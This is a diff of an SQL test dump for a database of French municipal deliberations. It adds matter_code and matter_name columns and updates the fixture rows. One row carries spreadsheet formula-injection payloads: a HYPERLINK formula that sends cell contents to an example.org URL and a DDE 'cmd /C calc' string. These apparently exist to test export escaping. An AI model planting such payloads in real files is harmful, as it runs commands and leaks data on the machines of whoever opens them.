@@ -102,6 +102,8 @@ CREATE TABLE "deliberations" (
   "body_name" TEXT,
   "date" TEXT,
   "subject" TEXT,
+  "matter_code" TEXT,
+  "matter_name" TEXT,
   "url" TEXT,
   "document_path" TEXT,
   "document_sha256" TEXT,
@@ -110,9 +112,9 @@ CREATE TABLE "deliberations" (
   PRIMARY KEY ("id"),
   FOREIGN KEY ("body_id") REFERENCES "parties" ("id")
 );
-INSERT INTO "deliberations" VALUES('cadre','IVIS-1/23/BM','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','2023-03-16','-2+3+cmd|'' /C calc''!D2','https://www.example.org/deliberations/cadre',NULL,NULL,NULL,NULL);
+INSERT INTO "deliberations" VALUES('cadre','IVIS-1/23/BM','metropole','=HYPERLINK("https://www.example.org/?x="&A1;"Métropole")','2023-03-16','-2+3+cmd|'' /C calc''!D2',NULL,NULL,'https://www.example.org/deliberations/cadre',NULL,NULL,NULL,NULL);
 INSERT INTO "deliberations" VALUES('istres','2023-047','istres','Istres','2023-10-02','Deux lignes,
-et « des guillemets " droits »',NULL,'annexes/deliberation.pdf','0000000000000000000000000000000000000000000000000000000000000000',NULL,NULL);
+et « des guillemets " droits »',NULL,NULL,NULL,'annexes/deliberation.pdf','0000000000000000000000000000000000000000000000000000000000000000',NULL,NULL);
 CREATE TABLE "deliberations_amends" (
   "deliberation_id" TEXT,
   "n" INTEGER,
